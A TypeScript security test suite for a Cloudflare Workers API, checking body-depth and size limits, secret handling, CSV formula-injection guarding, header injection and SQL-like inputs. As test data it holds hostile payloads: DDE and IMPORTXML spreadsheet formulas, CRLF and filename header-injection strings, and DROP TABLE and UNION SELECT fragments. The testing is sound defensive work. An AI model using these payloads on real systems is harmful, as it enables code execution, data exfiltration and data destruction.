// Security properties beyond the access matrix: bodies refused before they cost anything (too deep,
// too large), secrets compared in constant time and kept only as hashes, CSV that a sheet cannot
// evaluate, report file names that codes cannot break, and codes that look like SQL stored exactly
// as given.
import { env } from 'cloudflare:workers'
import fc from 'fast-check'
import Papa from 'papaparse'
import { beforeAll, describe, expect, it } from 'vitest'
import { MAX_JSON_DEPTH, nestsDeeperThan } from '../../src/lib/json-depth'
import { csvCell, toCsv } from '../../src/lib/csv'
import { secretsEqual, sha256Hex } from '../../src/lib/tokens'
import { signStandardWebhook, verifyStandardWebhook } from '../../src/lib/webhook-signature'
import { call, expectOk, issueToken, posSource, sendWebhook } from './helpers'
import { databaseFingerprint, sized } from './reliability'

const RUNS = sized(200, 2000)

interface Operation {
  method: string
  path: string
}
let writeRoutes: Operation[]

beforeAll(async () => {
  const spec = (await call('GET', '/openapi.json', { token: null })).json
  writeRoutes = Object.entries(spec.paths as Record<string, Record<string, unknown>>).flatMap(([path, ops]) =>
    Object.keys(ops)
      .filter((m) => m !== 'get')
      .map((method) => ({ method: method.toUpperCase(), path: path.replace(/\{\w+\}/g, 'x') })),
  )
  await expectOk(call('PUT', '/v1/regions', { body: { regions: [{ code: 'SEC', name: '华东区' }] } }))
})

/** The depth of a JSON value as the scanner counts it: each object or array is one level. */
const depthOf = (value: unknown): number =>
  value !== null && typeof value === 'object' ? 1 + Math.max(0, ...Object.values(value as object).map(depthOf)) : 0

describe('deeply nested JSON', () => {
  it('the scanner measures nesting as a parser would, brackets inside strings aside', () => {
    const text = fc.string({ unit: 'binary', maxLength: 8 }).map((s) => `${s}[]{}"\\`)
    fc.assert(
      fc.property(fc.jsonValue({ maxDepth: 12 }), fc.array(text, { maxLength: 3 }), (value, strings) => {
        const withStrings = Array.isArray(value) ? [...value, ...strings] : { value, strings }
        const json = JSON.stringify(withStrings)
        const depth = depthOf(withStrings)
        expect(nestsDeeperThan(json, depth)).toBe(false)
        expect(nestsDeeperThan(json, depth - 1)).toBe(true)
      }),
      { numRuns: RUNS },
    )
  })

  it('is refused with a 400 problem on every write route, before authentication work or writes', async () => {
    const deep = '{"a":'.repeat(MAX_JSON_DEPTH + 1) + '1' + '}'.repeat(MAX_JSON_DEPTH + 1)
    const before = await databaseFingerprint()
    for (const op of writeRoutes) {
      const res = await call(op.method, op.path, { body: deep })
      expect(res.headers.get('content-type')).toBe('application/problem+json')
      // A webhook of an unknown source is refused before its body is read (signed ones: below).
      if (op.path.startsWith('/v1/webhooks/')) {
        expect(res.status, `${op.method} ${op.path}`).toBe(404)
        continue
      }
      expect(res.status, `${op.method} ${op.path}`).toBe(400)
      expect(res.json.type).toContain('too-deep')
    }
    // Deep but within the limit is read as usual (here: a validation error, not a refusal).
    const shallow = '{"a":'.repeat(MAX_JSON_DEPTH - 1) + '1' + '}'.repeat(MAX_JSON_DEPTH - 1)
    expect((await call('PUT', '/v1/regions', { body: shallow })).status).toBe(422)
    expect(await databaseFingerprint()).toBe(before)
    console.log(`deep JSON: refused on ${writeRoutes.length} write routes, nothing written`)
  })

  it('a million levels in a signed webhook are refused as fast as a small one', async () => {
    const secret = await posSource('sec-deep')
    const body = '['.repeat(1_000_000) + ']'.repeat(1_000_000)
    const res = await sendWebhook('sec-deep', secret, body)
    expect(res.status).toBe(400)
    expect(await env.DB.prepare("SELECT count(*) AS n FROM webhook_receipts WHERE source_id = 'sec-deep'").first()).toEqual({ n: 0 })
  })
})

describe('huge bodies', () => {
  const huge = 'x'.repeat(5 * 1024 * 1024 + 1)

  it('over MAX_BODY_BYTES are a 413 problem for JSON, CSV and webhooks, and for a body streamed without a length', async () => {
    expect((await call('PUT', '/v1/regions', { body: JSON.stringify({ regions: [{ code: 'X', name: huge }] }) })).status).toBe(413)
    expect((await call('PUT', '/v1/stores', { csv: `code,name\nA,${huge}\n` })).status).toBe(413)
    const secret = await posSource('sec-huge')
    expect((await sendWebhook('sec-huge', secret, JSON.stringify({ type: 'sale.completed', data: { note: huge } }))).status).toBe(413)
    const { SELF } = await import('cloudflare:test')
    const chunk = new TextEncoder().encode('x'.repeat(1024 * 1024))
    let sent = 0
    const stream = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (sent++ < 6) controller.enqueue(chunk)
        else controller.close()
      },
    })
    const streamed = await SELF.fetch('https://regionops.test/v1/regions', {
      method: 'PUT',
      headers: { Authorization: 'Bearer test-admin-token', 'Content-Type': 'application/json' },
      body: stream,
    })
    expect(streamed.status).toBe(413)
    expect(streamed.headers.get('content-type')).toBe('application/problem+json')
  })
})

describe('secrets', () => {
  it('are compared by value alone, whatever their lengths and where they differ', async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: 'binary', maxLength: 80 }), fc.string({ unit: 'binary', maxLength: 80 }), async (a, b) => {
        expect(await secretsEqual(a, b)).toBe(a === b)
        expect(await secretsEqual(a, a)).toBe(true)
      }),
      { numRuns: RUNS },
    )
  })

  it('a webhook signature altered anywhere, shortened or lengthened is refused unless it still spells the same bytes', async () => {
    const secret = 'whsec_' + btoa('0123456789abcdef0123456789abcdef')
    const good = await signStandardWebhook(secret, 'id-1', 1_800_000_000, '{}')
    const mac = good.slice(3)
    await fc.assert(
      fc.asyncProperty(fc.nat({ max: mac.length - 1 }), fc.constantFrom('A', 'b', '9', '+', '/'), fc.constantFrom('replace', 'cut', 'append'), async (at, ch, how) => {
        const altered = how === 'replace' ? mac.slice(0, at) + ch + mac.slice(at + 1) : how === 'cut' ? mac.slice(0, at) : mac + ch
        // Base64 has spellings of the same bytes (padding left off, unused low bits): those are the same MAC.
        const bytes = (text: string) => {
          try {
            return atob(text)
          } catch {
            return null
          }
        }
        fc.pre(bytes(altered) !== bytes(mac))
        const result = await verifyStandardWebhook([secret], { id: 'id-1', timestamp: '1800000000', signature: `v1,${altered}` }, '{}', 1_800_000_000)
        expect(result.ok).toBe(false)
      }),
      { numRuns: RUNS },
    )
  })

  it('API tokens are kept only as SHA-256 hashes: no table holds a token in any form but its hash', async () => {
    const issued = await Promise.all([issueToken('admin'), issueToken('manager', ['SEC']), issueToken('viewer', ['SEC'])])
    for (const { token } of issued) expect((await call('GET', '/v1/regions', { token })).status).toBe(200)
    const tables = await env.DB.prepare("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE '_cf_%' AND name NOT LIKE 'sqlite_%'").all<{ name: string }>()
    const everything = (await Promise.all(tables.results.map(async (t) => JSON.stringify((await env.DB.prepare(`SELECT * FROM "${t.name}"`).all()).results)))).join('\n')
    for (const { token } of issued) {
      expect(everything).not.toContain(token)
      expect(everything).not.toContain(token.slice(4)) // without its prefix
      expect(everything).toContain(await sha256Hex(token))
    }
  })
})

describe('CSV output for =IMPORTDATA', () => {
  // Written apart from src/lib/formula-guard.ts, as a list: what may hide a formula sign, and the signs.
  const hiding = [' ', '\u00A0', '\u2000', '\u2007', '\u200A', '\u202F', '\u205F', '\u3000', '\t', '\n', '\r', '\v', '\f', '\u0085', '\u2028', '\u2029',
    '\u200B', '\u200C', '\u200D', '\u200E', '\u200F', '\u2060', '\uFEFF', '\u00AD', '\u180E', '\u061C',
    '\u202A', '\u202B', '\u202C', '\u202D', '\u202E', '\u2066', '\u2067', '\u2068', '\u2069', '\u3164', '\u2800', '\uFE0F']
  const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫']
  const hidden = new RegExp(`^[${hiding.join('')}]*`, 'u')
  /** Whether a sheet could take the cell for a formula: a sign, after whatever may hide it. */
  const opensFormula = (cell: string) => /^[\t\r]/.test(cell) || signs.includes(cell.replace(hidden, '').charAt(0))

  it('no text cell can start a formula, and the text survives a round trip behind its quote mark', () => {
    const risky = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 20 }),
      fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', "'"), fc.string({ unit: 'binary', maxLength: 20 })).map(([a, b]) => a + b),
      // A sign behind up to three hiding characters (or none), full-width signs included.
      fc.tuple(fc.array(fc.constantFrom(...hiding), { maxLength: 3 }), fc.constantFrom(...signs), fc.string({ unit: 'binary', maxLength: 12 })).map(([lead, sign, rest]) => lead.join('') + sign + rest),
      fc.constantFrom('=HYPERLINK("http://x","y")', "=cmd|'/c calc'!A0", '@SUM(1+1)*cmd|" /C calc"!A0', '-2+3', '+1', '+IMPORTXML("http://x/?"&A1,"//a")', '\u202E=1', '\u3000＝1'),
    )
    fc.assert(
      fc.property(fc.array(fc.array(fc.oneof(risky, fc.double({ noNaN: true, noDefaultInfinity: true }), fc.integer(), fc.constant(null)), { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 5 }), (rows) => {
        const width = Math.max(...rows.map((r) => r.length))
        const padded = rows.map((r) => [...r, ...Array(width - r.length).fill(null)])
        const header = Array.from({ length: width }, (_, i) => `c${i}`)
        const parsed = Papa.parse<string[]>(toCsv(header, padded), { header: false, delimiter: ',' }).data.slice(1, 1 + padded.length)
        padded.forEach((row, r) =>
          row.forEach((value, c) => {
            const cell = parsed[r]![c]!
            if (typeof value === 'string') {
              expect(opensFormula(cell), JSON.stringify(cell)).toBe(false)
              // The same text, behind a quote mark at most; always behind one when it could be a formula.
              expect([value, `'${value}`]).toContain(cell)
              if (opensFormula(value)) expect(cell).toBe(`'${value}`)
              // Text that opens with a visible letter or digit is never touched (a Hangul filler is a letter that shows nothing).
              if (/^(?!\p{Default_Ignorable_Code_Point})[\p{L}\p{N}]/u.test(value)) expect(cell).toBe(value)
            } else {
              expect(cell).toBe(value === null ? '' : String(value))
            }
          }),
        )
      }),
      { numRuns: RUNS },
    )
    expect(csvCell(-5)).toBe('-5') // numbers stay numbers
  })
})

describe('report file names', () => {
  // RFC 6266: a quoted ASCII fallback without `"`, `\\`, `;` or `%`, and the exact name in filename*.
  const shape = /^inline; filename="([\x20-\x21\x23-\x24\x26-\x3A\x3C-\x5B\x5D-\x7E]*)"; filename\*=UTF-8''([A-Za-z0-9!#$&+\-.^_`|~%]+)$/

  it('carry hostile region codes quoted and percent-encoded, never as a parameter or raw bytes', async () => {
    const codes = ['X";foo=bar', '华东', 'a\\"b;filename=evil.exe', "x'(*)%41"]
    await expectOk(call('PUT', '/v1/regions', { body: { regions: codes.map((code) => ({ code, name: '华东区' })) } }))
    for (const code of codes) {
      const res = await call('GET', `/v1/reports/consolidated?year=2026&month=3&regionCode=${encodeURIComponent(code)}&format=csv`)
      expect(res.status, res.text).toBe(200)
      const header = res.headers.get('content-disposition') ?? ''
      const [, fallback, encoded] = shape.exec(header) ?? []
      expect(fallback, header).toBeDefined()
      expect(decodeURIComponent(encoded!)).toBe(`consolidated-2026-3-${code}.csv`)
    }
    const injected = await call('GET', `/v1/reports/consolidated?year=2026&month=3&regionCode=${encodeURIComponent('X";foo=bar')}&format=csv`)
    expect(injected.headers.get('content-disposition')).toBe(`inline; filename="consolidated-2026-3-X__foo=bar.csv"; filename*=UTF-8''consolidated-2026-3-X%22%3Bfoo%3Dbar.csv`)
    const chinese = await call('GET', `/v1/reports/consolidated?year=2026&month=3&regionCode=${encodeURIComponent('华东')}&format=csv`)
    expect(chinese.headers.get('content-disposition')).toBe(`inline; filename="consolidated-2026-3-__.csv"; filename*=UTF-8''consolidated-2026-3-%E5%8D%8E%E4%B8%9C.csv`)
    // A line break cannot reach the header: it is no code, so the request is refused first.
    const broken = await call('GET', `/v1/reports/consolidated?year=2026&month=3&regionCode=${encodeURIComponent('X\r\nSet-Cookie: a=1')}&format=csv`)
    expect(broken.status).toBe(422)
    expect(broken.headers.get('content-disposition')).toBeNull()
  })
})

describe('codes that look like SQL', () => {
  const fragment = fc.constantFrom("'", '"', ';', '--', '/*', '*/', 'DROP', 'TABLE', 'regions', 'OR', '1=1', "')", '\\', '%', '_', '`', '?', '$1', ':x', '@x', 'UNION', 'SELECT', '*', 'x')
  const sqlCode = fc.array(fragment, { minLength: 1, maxLength: 12 }).map((parts) => parts.join('').slice(0, 60))

  it('are stored and read back exactly as given, and every table is still there', async () => {
    const tablesBefore = (await env.DB.prepare("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name").all()).results
    await fc.assert(
      fc.asyncProperty(fc.uniqueArray(sqlCode, { minLength: 1, maxLength: 8 }), fc.string({ unit: 'grapheme', minLength: 1, maxLength: 30 }), async (codes, text) => {
        const name = `区域 ${text.trim() || 'x'} '); DROP TABLE regions;--`
        const regions = codes.map((code) => ({ code: `R${code}`, name }))
        const stores = codes.map((code) => ({ code: `S${code}`, name, regionCode: `R${code}`, channel: 'direct' }))
        const products = codes.map((code) => ({ sku: `P${code}`, name }))
        await expectOk(call('PUT', '/v1/regions', { body: { regions }, direct: true }))
        await expectOk(call('PUT', '/v1/stores', { body: { stores }, direct: true }))
        await expectOk(call('PUT', '/v1/products', { body: { products }, direct: true }))
        const storedRegions = (await call('GET', '/v1/regions', { direct: true })).json.regions as { code: string; name: string }[]
        for (const r of regions) expect(storedRegions.find((x) => x.code === r.code)?.name).toBe(name.trim())
        for (const s of stores) {
          const listed = (await call('GET', `/v1/stores?regionCode=${encodeURIComponent(s.regionCode)}`, { direct: true })).json.stores
          expect(listed.map((x: { code: string }) => x.code)).toEqual([s.code])
        }
        const skus = new Set(((await call('GET', '/v1/products', { direct: true })).json.products as { sku: string }[]).map((p) => p.sku))
        for (const p of products) expect(skus.has(p.sku)).toBe(true)
      }),
      { numRuns: sized(25, 200) },
    )
    expect((await env.DB.prepare("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name").all()).results).toEqual(tablesBefore)
  }, 300_000)
})
